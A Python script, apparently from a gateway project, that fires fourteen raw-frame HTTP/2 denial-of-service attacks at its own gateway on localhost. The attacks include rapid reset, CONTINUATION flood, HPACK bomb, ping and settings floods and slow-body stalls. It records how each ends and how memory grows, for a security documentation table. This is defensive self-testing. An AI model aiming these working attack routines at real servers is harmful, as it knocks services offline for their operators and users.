#!/usr/bin/env python3
"""Attacks on HTTP/2 by raw frames, one after another, against the gateway that UCS_GATEWAY_BIN names, with its default deadlines:
how each ends, after how much, and how far the gateway's memory grew. A table for docs/security.md; it takes five minutes.

No test: tests/it/http2/attacks.rs has a limit for each. Needs python3 and nginx (as UCS).
"""

import os
import shutil
import socket
import struct
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../flood"))
import floods  # noqa: E402  the gateway
import http2  # noqa: E402  beside this file

PING, PRIORITY, GOAWAY = 6, 2, 7
GET = http2.fields(b"GET", b"/profiles/1")
POST = http2.fields(b"POST", b"/profiles", (b"content-type", b"application/json"), (b"content-length", b"1000000"))
LARGE = http2.fields(b"GET", b"/profiles/large")
PATIENCE = 150


class Client:
    """A connection that sends frames, and notes how it, or its first stream, ended."""

    def __init__(self, gateway, window=http2.ALL):
        self.stream = socket.create_connection(("127.0.0.1", gateway.port))
        self.ahead, self.next, self.answered = b"", -1, 0
        self.stream.sendall(http2.start(window))

    def number(self):
        self.next += 2
        return self.next

    def open(self, block, flags=http2.END_STREAM):
        number = self.number()
        return number, http2.frame(http2.HEADERS, http2.END_HEADERS | flags, number, block)

    def flood(self, most, frames):
        """Sends until the gateway ends the connection; how often."""
        reader = threading.Thread(target=self.end, args=(True,))
        reader.start()
        sent = 0
        try:
            while sent < most and reader.is_alive():
                self.stream.sendall(frames())
                sent += 1
        except OSError:
            pass
        if sent == most:
            self.stream.shutdown(socket.SHUT_WR)
        reader.join()
        return f"{self.how} after {sent:,} of {most:,}"

    def end(self, of_connection=False, drip=b""):
        """Waits for the end of the connection, or of a stream; sends `drip` each second."""
        self.how, until, tick = "still open", time.monotonic() + PATIENCE, time.monotonic() + 1
        self.stream.settimeout(0.2)
        while time.monotonic() < until:
            if drip and time.monotonic() > tick:
                tick += 1
                try:
                    self.stream.sendall(drip)
                except OSError:
                    pass
            try:
                piece = self.stream.recv(1 << 16)
            except TimeoutError:
                continue
            except OSError:
                piece = b""
            if not piece:
                self.how = "closed" if self.how == "still open" else self.how
                return self.how
            self.ahead += piece
            if self.note(of_connection):
                return self.how
        return self.how

    def note(self, of_connection):
        """Reads the frames that are whole; whether one of them is the end."""
        while len(self.ahead) >= 9 and len(self.ahead) >= 9 + int.from_bytes(self.ahead[:3], "big"):
            length, kind, flags = int.from_bytes(self.ahead[:3], "big"), self.ahead[3], self.ahead[4]
            payload, self.ahead = self.ahead[9 : 9 + length], self.ahead[9 + length :]
            self.answered += kind in (PING, http2.SETTINGS) and flags & 1
            if kind == GOAWAY:
                self.how = f"GOAWAY {int.from_bytes(payload[4:8], 'big')}"
            elif not of_connection and kind == http2.RST_STREAM:
                self.how = f"reset {int.from_bytes(payload, 'big')}"
                return True
            elif not of_connection and kind == http2.HEADERS and flags & http2.END_STREAM == 0:
                self.how = "response" if self.how == "still open" else self.how
            elif not of_connection and kind == http2.DATA and flags & http2.END_STREAM:
                self.how = "a whole response"
                return True
        return False


def rapid_reset(client):
    def frames():
        number, opened = client.open(GET)
        return opened + http2.frame(http2.RST_STREAM, 0, number, struct.pack(">I", 8))

    return client.flood(4000, frames)


def continuation(client):
    client.stream.sendall(http2.frame(http2.HEADERS, 0, client.number(), GET))
    return client.flood(10_000, lambda: http2.more_of_head(100))


def bomb(client):
    """One long field in the dynamic table, and 12,000 references to it."""
    block = GET + b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000 + b"\xbe" * 12_000
    client.stream.sendall(client.open(block)[1])
    return client.end()


def empty_data(client):
    number, opened = client.open(POST, 0)
    client.stream.sendall(opened)
    return client.flood(60_000, lambda: http2.frame(http2.DATA, 0, number))


def made_you_reset(wrong):
    """Streams that the gateway has to reset, as the client breaks a rule on each."""

    def attack(client):
        def frames():
            number, opened = client.open(POST, 0)
            return opened + wrong(number)

        return client.flood(4000, frames)

    return attack


def control(kind, payload):
    def attack(client):
        how = client.flood(20_000, lambda: http2.frame(kind, 0, 0, payload))
        return f"{how}, {client.answered} answered"

    return attack


def unread(block):
    def attack(client):
        client.stream.sendall(client.open(block)[1])
        return client.end()

    return attack


def slow_body(client):
    number, opened = client.open(POST, 0)
    client.stream.sendall(opened)
    return client.end(drip=http2.frame(http2.DATA, 0, number, b"x"))


def unfinished_head(drip):
    def attack(client):
        client.stream.sendall(http2.frame(http2.HEADERS, 0, client.number(), GET))
        return client.end(True, drip)

    return attack


ATTACKS = [
    ("rapid reset", rapid_reset, {}),
    ("CONTINUATION without end", continuation, {}),
    ("12,000 references to a field of 4 KB", bomb, {}),
    ("empty DATA", empty_data, {}),
    ("streams to be reset: window of 0", made_you_reset(lambda n: http2.frame(http2.WINDOW_UPDATE, 0, n, bytes(4))), {}),
    ("streams to be reset: depends on itself", made_you_reset(lambda n: http2.frame(PRIORITY, 0, n, struct.pack(">IB", n, 1))), {}),
    ("PING", control(PING, bytes(8)), {}),
    ("SETTINGS", control(http2.SETTINGS, b""), {}),
    ("HEADERS that do not end", unfinished_head(b""), {}),
    ("the same, a field each second", unfinished_head(http2.more_of_head(10)), {}),
    ("window of 0, 1 KB", unread(GET), {"window": 0}),
    ("window of 1, 1 KB", unread(GET), {"window": 1}),
    ("window of 0, a long response", unread(LARGE), {"window": 0}),
    ("body of 1 B/s", slow_body, {}),
]


def peak(gateway):
    with open(f"/proc/{gateway.process.pid}/status", encoding="ascii") as file:
        return next(int(line.split()[1]) for line in file if line.startswith("VmHWM"))


def main():
    folder, children = tempfile.mkdtemp(prefix="attacks-"), []
    try:
        gateway = floods.start(folder, children, ["--h2c"])
        Client(gateway).flood(1, lambda: b"")
        print("| attack | end | after | memory |\n|---|---|---|---|")
        for name, attack, how in ATTACKS:
            before, began = peak(gateway), time.monotonic()
            end = attack(Client(gateway, **how))
            took, growth = time.monotonic() - began, peak(gateway) - before
            print(f"| {name} | {end} | {took:.1f} s | +{growth / 1024:.1f} MiB |", flush=True)
    finally:
        floods.end(children)
        shutil.rmtree(folder, ignore_errors=True)


if __name__ == "__main__":
    main()
